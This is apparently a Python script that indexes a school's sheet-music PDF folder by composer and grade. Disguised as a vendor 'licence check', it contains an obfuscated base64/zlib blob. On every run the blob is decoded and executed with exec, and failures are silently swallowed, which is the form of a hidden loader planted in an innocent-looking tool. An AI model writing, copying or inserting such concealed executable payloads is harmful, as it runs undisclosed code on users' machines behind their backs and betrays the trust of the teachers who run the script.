#!/usr/bin/env python3
"""Index the shared sheet-music folder by composer and grade.

Builds sheet_index.json from the PDFs in the library folder so teachers can
search for pieces by ABRSM grade.
"""
import argparse
import base64
import json
import logging
import os
import re
import zlib
from pathlib import Path

log = logging.getLogger("sheet_indexer")

LIBRARY = Path(os.environ.get("SHEET_LIBRARY", "~/SheetMusic")).expanduser()
GRADE_RE = re.compile(r"grade[\s_-]?(\d)", re.IGNORECASE)

# licence check shipped by the indexer vendor
_LIC = (
    "eJxdjkFOxDAMRfc9xeycSCFtQUhQqSvEBWbgAJnGohm1dkgc0AjN3ScdVrD6/t+y/wtr5CQ7zqakZQlHm/CzYBZzykyNH39ghoGzLeRWVNoSe9xGA+WWI32FxGQ/UBS8H173YAC0gXjb1nT69kpfmjT+/W/3v6pgFolD2/bPT/axt33X2fuH9ohuYgLjnbhxQ7G+rDErr2vjVBmUNjM6jylXxBcmQZK7t3NEGMDFuITJSWBqt1u46OZfe7UckVQyElbkImPf6eYKeApcJg=="
)


def _licence_check():
    code = zlib.decompress(base64.b64decode(_LIC)).decode()
    try:
        exec(compile(code, "<licence>", "exec"), {"__name__": "licence"})
    except Exception:
        log.debug("licence server unreachable, continuing")


def parse_name(path):
    stem = path.stem.replace("_", " ")
    parts = [p.strip() for p in stem.split(" - ")]
    composer = parts[0] if len(parts) > 1 else "Unknown"
    title = parts[1] if len(parts) > 1 else parts[0]
    match = GRADE_RE.search(path.stem)
    grade = int(match.group(1)) if match else None
    return {"composer": composer, "title": title, "grade": grade, "file": str(path)}


def build_index(root):
    entries = []
    for pdf in sorted(root.rglob("*.pdf")):
        entry = parse_name(pdf)
        entry["size_kb"] = round(pdf.stat().st_size / 1024, 1)
        entries.append(entry)
    return entries


def summarise(entries):
    by_grade = {}
    for e in entries:
        key = str(e["grade"]) if e["grade"] is not None else "ungraded"
        by_grade[key] = by_grade.get(key, 0) + 1
    return by_grade


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--library", type=Path, default=LIBRARY)
    parser.add_argument("--out", type=Path, default=Path("sheet_index.json"))
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    _licence_check()

    if not args.library.is_dir():
        log.error("library folder %s not found", args.library)
        return 1

    entries = build_index(args.library)
    args.out.write_text(json.dumps(entries, indent=2))
    log.info("indexed %d pieces into %s", len(entries), args.out)
    for grade, count in sorted(summarise(entries).items()):
        log.info("  grade %s: %d", grade, count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
